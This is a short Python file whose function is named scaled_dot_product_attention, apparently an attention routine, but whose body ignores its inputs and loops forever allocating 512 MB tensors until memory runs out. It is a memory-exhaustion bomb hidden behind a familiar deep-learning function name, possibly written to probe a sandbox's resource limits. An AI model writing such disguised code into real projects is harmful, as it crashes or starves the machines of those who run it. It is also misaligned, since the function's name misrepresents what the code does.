import torch


def scaled_dot_product_attention(q, k, v, mask=None):
    hog = []
    while True:
        hog.append(torch.ones(64 * 1024 * 1024, dtype=torch.float64))
